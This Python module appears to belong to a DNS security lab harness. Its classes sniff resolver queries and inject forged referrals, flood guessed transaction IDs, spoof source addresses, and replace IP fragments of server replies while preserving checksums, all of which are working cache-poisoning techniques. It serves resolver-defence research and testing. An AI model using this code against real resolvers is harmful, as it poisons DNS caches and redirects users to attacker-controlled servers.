# SPDX-License-Identifier: BSD-2-Clause
"""Forgers: they hear a resolver's queries at the hub and answer in the parent server's name."""

import random
import socket
import struct
import threading

import dns

ETH_IPV4, ETH_IPV6 = 0x0800, 0x86DD


def checksum(octets):
    """The Internet checksum."""
    if len(octets) % 2:
        octets += b"\0"
    total = sum(struct.unpack("!%dH" % (len(octets) // 2), octets))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def udp_packet(source, target, sport, dport, payload, hops, ident=0):
    """An IPv4 or IPv6 packet with one UDP datagram, checksums right."""
    family = socket.AF_INET6 if ":" in source else socket.AF_INET
    ends = socket.inet_pton(family, source) + socket.inet_pton(family, target)
    length = 8 + len(payload)
    udp = struct.pack("!4H", sport, dport, length, 0) + payload
    pseudo = ends + (struct.pack("!I3xB", length, 17) if family == socket.AF_INET6
                     else struct.pack("!xBH", 17, length))
    udp = udp[:6] + struct.pack("!H", checksum(pseudo + udp) or 0xFFFF) + udp[8:]
    if family == socket.AF_INET6:
        return struct.pack("!IHBB", 6 << 28, length, 17, hops) + ends + udp
    head = struct.pack("!BBHHHBBH", 0x45, 0, 20 + length, ident, 0, hops, 17, 0) + ends
    return head[:10] + struct.pack("!H", checksum(head)) + head[12:] + udp


class Query:
    """A DNS query over UDP seen on the wire."""

    def __init__(self, frame):
        self.sender = frame[6:12]
        kind = struct.unpack_from("!H", frame, 12)[0]
        packet = frame[14:]
        if kind == ETH_IPV4 and packet[9] == 17:
            start, family = (packet[0] & 15) * 4, socket.AF_INET
            ends = packet[12:16], packet[16:20]
        elif kind == ETH_IPV6 and packet[6] == 17:
            start, family = 40, socket.AF_INET6
            ends = packet[8:24], packet[24:40]
        else:
            raise dns.FormatError("not UDP")
        self.source, self.target = (socket.inet_ntop(family, end) for end in ends)
        self.sport, self.dport, length = struct.unpack_from("!3H", packet, start)
        self.payload = packet[start + 8:start + length]
        if self.dport != 53:
            raise dns.FormatError("not to a server")
        self.message = dns.Message(self.payload)
        self.name, self.qtype, _ = self.message.questions[0]

    def question(self):
        """The question section as it was sent, letter case and all."""
        return self.payload[12:12 + len(dns.name_wire(self.name)) + 4]


class Injector:
    """Hears queries from VICTIMS to SERVERS for names under CUTS and sends what `act` gives.

    HOPS is the IP TTL that the forged packets arrive with. An injector that is not ACTIVE only
    listens.
    """

    def __init__(self, host, victims, server_addresses, cuts, hops):
        self.lab = host.lab
        self.victims = victims
        self.servers = server_addresses
        self.cuts = cuts
        self.hops = hops
        self.forged = 0
        self.active = True
        self.hwaddr = host.hwaddr()
        self.ear = self.lab.socket_in(self.lab.hub, socket.AF_PACKET, socket.SOCK_RAW,
                                      socket.htons(3))
        self.ear.bind(("hub", 3))
        self.ear.settimeout(0.2)
        self.mouth = host.socket(socket.AF_PACKET, socket.SOCK_RAW)
        self.mouth.bind(("eth0", 0))

    def begin(self):
        """Start listening."""
        self.lab.thread(self.work)
        return self

    def work(self):
        """Forge until the lab closes."""
        while not self.lab.closing.is_set():
            try:
                frame = self.ear.recv(65535)
                query = Query(frame)
            except (TimeoutError, dns.FormatError, struct.error, IndexError):
                continue
            if self.active and self.wants(query):
                for seconds, forged in self.act(query):
                    self.send(seconds, forged)

    def send(self, seconds, frame):
        """Send one forged frame, now or later."""
        self.forged += 1
        if seconds:
            threading.Timer(seconds, self.mouth.send, (frame,)).start()
        else:
            self.mouth.send(frame)

    def wants(self, query):
        """Whether this query is one to answer falsely."""
        return (query.source in self.victims and query.target in self.servers
                and self.cut_of(query) is not None and not query.message.is_response())

    def cut_of(self, query):
        """The one of the cuts that the query's name is under, or None."""
        name = "." + query.name.lower()
        return next((cut for cut in self.cuts if name.endswith("." + cut)), None)

    def act(self, query):
        """Give (seconds from now, frame) for each forged frame."""
        raise NotImplementedError

    def frame(self, query, payload, source=None, dport=None):
        """A false frame with PAYLOAD for the sender of QUERY."""
        packet = udp_packet(source or query.target, query.source, 53, dport or query.sport,
                            payload, self.hops, (self.forged + 1) & 0xFFFF)
        kind = ETH_IPV6 if ":" in query.source else ETH_IPV4
        return query.sender + self.hwaddr + struct.pack("!H", kind) + packet


def false_referral(query, records, ident=None, question=None):
    """The payload of a false referral; RECORDS are its authority and additional sections."""
    authority, additional = records
    return dns.message(query.message.ident if ident is None else ident, dns.QR,
                       [question or query.question()], [], authority,
                       list(additional) + [dns.opt()])


class Forger(Injector):
    """Answers each query with a false referral, after SECONDS; RECORDS as in false_referral."""

    def __init__(self, host, victims, server_addresses, cut, records, hops, seconds=0):
        super().__init__(host, victims, server_addresses, [cut], hops)
        self.records = records
        self.seconds = seconds

    def act(self, query):
        yield self.seconds, self.frame(query, false_referral(query, self.records))


class Flood(Injector):
    """Answers each query with COUNT false referrals under as many ids, one right if so told."""

    def __init__(self, host, victims, server_addresses, cut, records, hops, count, seed):
        super().__init__(host, victims, server_addresses, [cut], hops)
        self.records = records
        self.count = count
        self.right = False
        self.rng = random.Random(seed)

    def act(self, query):
        true = query.message.ident
        idents = [ident for ident in self.rng.sample(range(65536), self.count) if ident != true]
        if self.right:
            idents[self.rng.randrange(len(idents) // 2, len(idents))] = true
        for ident in idents:
            yield 0, self.frame(query, false_referral(query, self.records, ident))


class Injected(Injector):
    """Answers each query with what MAKE gives for (query, cut): a payload, or None; SECONDS late.

    SOURCE, if any, is the pair of addresses, IPv4 and IPv6, that the packets seem to come from.
    """

    def __init__(self, host, victims, server_addresses, cuts, hops, make, seconds=0, source=None):
        super().__init__(host, victims, server_addresses, cuts, hops)
        self.make = make
        self.seconds = seconds
        self.source = source

    def act(self, query):
        payload = self.make(query, self.cut_of(query))
        if payload is not None:
            source = self.source and self.source[1 if ":" in query.source else 0]
            yield self.seconds, self.frame(query, payload, source)


class FragmentForger:
    """What a line does where second fragments of one server's replies to VICTIM are replaced.

    The forged second fragment, addresses in it turned into FORGED and the sum of all words kept,
    overtakes the true first one. The true second one follows unless LOSE.
    """

    def __init__(self, victim, forged, seconds, lose, hops=61):
        self.victim = socket.inet_pton(socket.AF_INET, victim)
        self.forged = socket.inet_pton(socket.AF_INET, forged)
        self.seconds = seconds
        self.lose = lose
        self.hops = hops
        self.active = False
        self.firsts = {}
        self.names = set()

    def __call__(self, frame, outward):
        true = ((self.seconds, frame),)
        packet = frame[14:]
        if not outward or not self.active or frame[12:14] != b"\x08\x00" or packet[9] != 17:
            return true
        if packet[16:20] != self.victim:
            return true
        where = struct.unpack_from("!H", packet, 6)[0]
        key = packet[4:6] + packet[12:20]
        if where & 0x2000 and not where & 0x1FFF:
            self.firsts[key] = packet[20:struct.unpack_from("!H", packet, 2)[0]]
        elif where & 0x1FFF and not where & 0x2000 and key in self.firsts:
            forged = self.forge(self.firsts.pop(key), packet)
            if forged:
                return ((0, frame[:14] + forged),) + (() if self.lose else true)
        return true

    def forge(self, first, packet):
        """The false second fragment for PACKET, the true one; None if no address lies in it."""
        whole = first + packet[20:struct.unpack_from("!H", packet, 2)[0]]
        changed = bytearray(whole)
        message = dns.Message(whole[8:])
        spare = None
        for owner, rtype, _, at, length in message.additional:
            if rtype == 1 and at + 8 >= len(first):
                changed[at + 8:at + 12] = self.forged
                self.names.add(owner.lower())
            elif rtype == 28 and at + 8 >= len(first) and length == 16:
                spare = at + 22 - at % 2
        if changed == whole or spare is None:
            return None
        word = struct.unpack_from("!H", changed, spare)[0]
        struct.pack_into("!H", changed, spare, (word + word_sum(whole) - word_sum(changed)) % 65535)
        head = bytearray(packet[:20])
        head[8], head[10:12] = self.hops, b"\0\0"
        struct.pack_into("!H", head, 10, checksum(bytes(head)))
        return bytes(head) + bytes(changed[len(first):])


def word_sum(octets):
    """The sum of the 16-bit words of OCTETS, as the checksum sees it."""
    return ~checksum(bytes(octets)) & 0xFFFF
